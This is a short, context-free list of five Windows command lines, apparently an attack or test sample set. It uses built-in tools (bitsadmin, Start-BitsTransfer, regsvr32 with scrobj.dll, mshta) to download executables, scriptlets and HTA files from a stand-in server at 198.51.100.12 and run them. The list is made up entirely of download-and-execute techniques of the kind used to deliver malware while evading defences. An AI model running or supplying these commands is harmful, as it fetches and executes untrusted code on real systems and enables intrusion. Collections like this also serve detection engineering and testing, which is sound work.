bitsadmin /transfer updjob /download /priority high http://198.51.100.12/a.exe C:\Users\Public\a.exe
Start-BitsTransfer -Source 'http://198.51.100.12/b.exe' -Destination "$env:TEMP\b.exe"
Start-Process -FilePath "$env:TEMP\b.exe"
regsvr32.exe /s /n /u /i:http://198.51.100.12/file.sct scrobj.dll
mshta.exe http://198.51.100.12/run.hta
